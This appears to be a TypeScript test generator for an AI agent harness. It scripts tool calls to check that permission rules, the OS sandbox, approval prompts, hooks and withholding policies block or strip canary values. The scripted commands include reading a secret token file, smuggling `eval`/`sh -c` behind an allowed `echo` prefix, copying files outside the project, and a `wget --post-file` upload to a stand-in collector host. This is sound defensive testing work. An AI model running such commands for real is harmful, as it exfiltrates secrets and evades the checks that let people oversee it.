   * unattended). A denied call's input carries a canary; an allowed call's a control. Once per
   * scenario, a read-only call prints a file holding a withheld variable's value: masked by value.
   */
  private permissionCall(tag: string, id: string): NonNullable<ScriptTurn["toolCalls"]>[number] {
    const { rng } = this;
    const bash = (command: string) => ({ id, name: "Bash", input: { command } });
    const allow = (path: AllowedCall["path"], asked: boolean) =>
      this.allowed.push({ path, runTag: tag, callId: id, asked });
    const roll = rng.next();
    if (roll < 0.12 && this.maskedSecret === undefined && !this.sandbox) {
      this.maskedSecret = this.target("masked-secret", tag, "a withheld variable's value a read-only command printed", {
        path: "masked-secret",
        callId: id,
      });
      this.files["token.txt"] = `${MASKED_VARIABLE}=${this.maskedSecret}\nbeside=${this.control()}\n`;
      allow("read-only", false);
      // Sometimes the command fails (a missing file): the secret is then in the tool's error.
      return bash(rng.chance(0.5) ? "cat ./token.txt" : "cat ./token.txt ./missing.txt");
    }
    if (roll < 0.3) {
      allow("permission-allow", false);
      return bash(`echo RAN ${this.control()}`);
    }
    if (roll < 0.5) {
      const file = `ro-${id}.txt`;
      this.files[file] = `data ${this.control()}\n`;
      allow("read-only", false);
      const command = rng.pick([
        `cat ./${file}`,
        `head -n 3 ${file}`,
        `grep -h CANARY ./${file}`,
        `ls . && cat ${file}`,
        `cat ${file} | wc -c && tail -n 1 ${file}`,
      ]);
      return bash(command);
    }
    if (roll < 0.7 && this.attended) {
      allow("ask-approved", true);
      return bash(`printf '%s\\n' '${MARK.approveYes} ${this.control()}'`);
    }
    if (roll < 0.85) {
      const kind = this.attended ? "ask-denied" : "ask-unattended";
      const where = this.attended
        ? "the input of a Bash call the approver refuses"
        : "the input of a Bash call that asks with no one to ask";
      return bash(`printf '%s\\n' '${this.target(kind, tag, where, { path: kind, callId: id })}' | nl`);
    }
    const canary = this.target(
      "parser-refusal",
      tag,
      "a Bash line the shell reader cannot read, behind an allowed prefix",
      {
        path: "parser-refusal",
        callId: id,
      },
    );
    return bash(
      rng.pick([
        `echo RAN ${canary} && eval "$R1_CMD"`,
        `echo RAN ${canary}; $R1_CMD --now`,
        `echo RAN ${canary} | sh -c "$R1_CMD"`,
      ]),
    );
  }

  /**
   * A run whose Bash calls meet the OS sandbox (docs/security.md#sandbox), each canary in a file the
   * call reads, copies or sends, never in its input: a Read-denied file printed beside a control (the
   * read is refused), a file copied outside the project (the write is refused), a file posted to a
   * host no setting names (a loopback server that would receive it, or a name the proxy asks about
   * and the approver refuses). The writes and connections are asked about and approved: the
   * permission check lets them run, the sandbox must stop them.
   */
  private sandboxRun(tag: string, session: number): PlannedRun {
    const calls: NonNullable<ScriptTurn["toolCalls"]> = [];
    const read = this.target("sandbox-read", tag, "a Read-denied file a sandboxed command prints", {
      path: "sandbox-read",
      callId: `${tag}_r`,
      audited: "filesystem",
    });
    this.files[VAULT_FILE] = `TOKEN=${read}\n`;
    calls.push({ id: `${tag}_r`, name: "Bash", input: { command: `echo RAN ${this.control()}; cat ./${VAULT_FILE}` } });
    const write = this.target("sandbox-write", tag, "a file a sandboxed command copies outside the project", {
      path: "sandbox-write",
      callId: `${tag}_w`,
      audited: "filesystem",
    });
    this.files["payload-w.txt"] = `${write}\n`;
    calls.push({
      id: `${tag}_w`,
      name: "Bash",
      input: { command: `true ${MARK.approveYes} && cp ./payload-w.txt "$R1_OUTSIDE/copy.txt"` },
    });
    const named = this.rng.chance(0.5);
    const sent = this.target(
      "sandbox-host",
      tag,
      `a file a sandboxed command posts to ${named ? "a host no setting names" : "a loopback server"}`,
      {
        path: "sandbox-host",
        callId: `${tag}_h`,
        ...(named ? { audited: "network" as const } : {}),
      },
    );
    this.files["payload-h.txt"] = `${sent}\n`;
    const url = named ? "http://collector.invalid/upload" : "http://localhost:$R1_PORT/upload";
    calls.push({
      id: `${tag}_h`,
      name: "Bash",
      input: { command: `true ${MARK.approveYes} && wget -q -T 5 -t 1 -O- --post-file=./payload-h.txt ${url}` },
    });
    this.scriptRuns.push({ match: `^\\[${tag}\\]`, turns: [{ toolCalls: calls }, { text: `final of ${tag}` }] });
    return { tag, session, prompt: `${this.promptOf(tag, "model")} ${this.control()}`, stream: false, via: "model" };
  }

  /**
   * A final answer the policy (`before_agent_finalize`) or the `Stop` / `SubagentStop` hook sends
   * back for one more pass. It stays in the run (as in Claude Code: the model revises what it
   * wrote), so its canary is removed by the run's output verdict, which sees every text of the run.
   */
  private draft(tag: string, block: "response-block" | "response-rewrite"): ScriptTurn {
    const revisedBy = this.commandHooks && this.rng.chance(0.5) ? "command-hooks" : "policy";
    const where = "a draft answer sent back for revision";
    const extra = { path: "revise-retry" as const, revisedBy } as const;
    const canary =
      block === "response-block" ? this.target(block, tag, where, extra) : this.rewriteTarget(block, tag, where, extra);
    const mark = revisedBy === "policy" ? MARK.revisePlugin : MARK.reviseStop;
    return { text: `draft of ${tag} ${mark} ${canary}` };
  }

  /**
   * A sub-agent whose answer the parent withholds: the parent's verdict, the child's session. Two
   * deep, sometimes: the child relays what its own sub-agent answered, and the verdict must reach
   * the grandchild's session too, its task included.
   */
  private withheldChild(
    tag: string,
    session: number,
    kind: BlockKind,
    id: string,
  ): NonNullable<ScriptTurn["toolCalls"]>[number] {
    const child = `${tag}c${this.children.length}`;
    const marker = kind === "withhold-plugin" ? MARK.withholdPlugin : MARK.withholdPtu;
    const call = {
      id,
      name: "Agent",
      input: { description: `subtask ${child}`, prompt: `[${child}] Sub-task for ${tag}.` },
    };
    this.children.push({ tag: child, session, prompt: call.input.prompt, stream: false, via: "model" });
    if (this.rng.chance(0.5)) {
      const canary = this.target(kind, tag, `a sub-agent's answer (${child}) the parent withholds`);
      this.scriptRuns.push({ match: `^\\[${child}\\]`, turns: [{ text: `final of ${child} ${marker} ${canary}` }] });
      return call;
    }
    const grand = `${child}g`;
    // The verdict is the parent's withholding of the child's answer, which names the child (the
    // relayed text may have been compacted away in the child's own run before it answered).
    const relay = `final of ${child} ${marker}`;
    const answer = this.target(kind, tag, `a sub-agent's answer two deep (${grand}), relayed by ${child}`, {
      path: "depth-2",
      markerCanary: relay,
    });
    const task = this.target(kind, tag, `a sub-agent's task two deep (${grand})`, {
      path: "depth-2",
      markerCanary: relay,
    });
    const grandPrompt = `[${grand}] Sub-sub-task ${task}.`;
    this.children.push({ tag: grand, session, prompt: grandPrompt, stream: false, via: "model" });
    this.scriptRuns.push({
      match: `^\\[${child}\\]`,
      turns: [
        {
          toolCalls: [
            { id: `${child}_g`, name: "Agent", input: { description: `subtask ${grand}`, prompt: grandPrompt } },
          ],
        },
        { text: `${relay} saw {{lastToolResult}}` },
      ],
    });
    this.scriptRuns.push({ match: `^\\[${grand}\\]`, turns: [{ text: `answer of ${grand} ${answer}` }] });
    return call;
  }

  /**
   * An assistant turn's text, sometimes multi-part (text, reasoning, text), sometimes reasoning
   * alone before tool calls. Canaries go where the run's verdict removes them: every text and
   * reasoning of a blocked run; texts of a rewritten one and every reasoning of it (a rewrite
   * drops the run's reasoning); the final text for delivery verdicts.
   */
  private assistantText(
    tag: string,
    block: BlockKind | undefined,
    label: string,
    final: boolean,
    depth: number,
  ): ScriptTurn {
    const { rng } = this;
    const rewrittenRun = block === "response-rewrite" || block === "delivery-rewrite";
    if (!final && rng.chance(0.45)) {
      if (!rewrittenRun || !rng.chance(0.5)) return {};
      const canary = this.target(block, tag, `${label} reasoning, with no text beside it`, { path: "reasoning" });
      return { parts: [{ type: "reasoning", text: `reasoning for ${label} of ${tag} ${canary}` }] };
    }
    const turn: { text?: string; parts?: NonNullable<ScriptTurn["parts"]>; chunks?: number } = {};
    const bits: string[] = [`${label} of ${tag}`];
    if (block === "response-block") {
      bits.push(this.target(block, tag, `${label} text`));
      if (final) bits.push(MARK.responseBlock);
    } else if (block === "response-rewrite" && (final || rng.chance(0.6))) {
      bits.push(this.rewriteTarget(block, tag, `${label} text`, { inReply: final && depth === 0 }));
    } else if (final && (block === "delivery-cancel" || block === "delivery-rewrite")) {
      const path = "delivery-stored" as const;
      bits.push(
        block === "delivery-cancel"
          ? `${MARK.cancel} ${this.target(block, tag, "final text", { path })}`
          : this.rewriteTarget(block, tag, "final text", { path, inReply: true }),
      );
    } else if ((block === "delivery-cancel" || block === "delivery-rewrite") && rng.chance(0.5)) {
      // Two verdicts on one answer: the response gate rewrites an earlier text, then delivery is
      // cancelled or rewritten; the store must keep the first verdict too.
      const how = block === "delivery-cancel" ? "cancelled" : "rewritten";
      bits.push(
        this.rewriteTarget("response-rewrite", tag, `${label} text of a run whose delivery is ${how}`, {
          path: "delivery-stored",
        }),
      );
    }
    if (final && rng.chance(0.3)) bits.push("(saw {{lastToolResult}})");
    const text = bits.join(" ");
    if (rng.chance(0.4)) {
      // Multi-part: the text split around a reasoning part.
      let reasoning = `reasoning for ${label} of ${tag}`;
      if (block === "response-block") reasoning += ` ${this.target(block, tag, `${label} reasoning`)}`;
      else if (rewrittenRun) reasoning += ` ${this.target(block, tag, `${label} reasoning`, { path: "reasoning" })}`;
      const cut = text.indexOf(" ");
      turn.parts = [
        { type: "text", text: text.slice(0, cut + 1) },
        { type: "reasoning", text: reasoning },
        { type: "text", text: text.slice(cut + 1) },
      ];
    } else {
      turn.text = text;
      if (rng.chance(0.3)) turn.chunks = rng.int(2, 4);
    }
    return turn;
  }
}

/** One line saying what a scenario does, printed with a failing seed. */
export function describeScenario(s: Scenario): string {
  const runs = s.runs.map((r) =>
    r.tag
      ? `${r.tag}${r.via === "model" ? "" : `(${r.via})`}${r.block ? `:${r.block}` : ""}${r.interrupted ? ":interrupted" : ""}${r.stream ? "~" : ""}`
      : "/compact",
  );
  const children = s.children.map((r) => `${r.tag}${r.block ? `:${r.block}` : ""}`);
  const compaction =
    s.compaction.contextTokens >= 1_000_000
      ? "no compaction"
      : `compaction>${s.compaction.contextTokens}t keep ${s.compaction.keepRecent}`;
  return [
    `seed ${s.seed} index ${s.index}`,
    `store ${s.store}${s.kill ? ` (killed at hook emission ${s.kill.atEmit})` : ""}`,
    s.commandHooks ? "command hooks" : "no command hooks",
    compaction,
    `runs [${runs.join(" ")}]`,
    children.length ? `sub-agents [${children.join(" ")}]` : "",
    `curl denied in ${s.denySource} settings`,
    s.providerFaults.steps.length
      ? `provider fails once at ${s.providerFaults.steps.map((f) => `${f.tag}#${f.step}`).join(" ")}`
      : "",
    s.providerFaults.summary ? "first summary fails part-way" : "",
    s.summaryCanary ? "summaries blocked by before_message_write" : "",
    `${s.targets.length} targets, ${s.controls.length} controls`,
  ]
    .filter(Boolean)
    .join("; ");
}
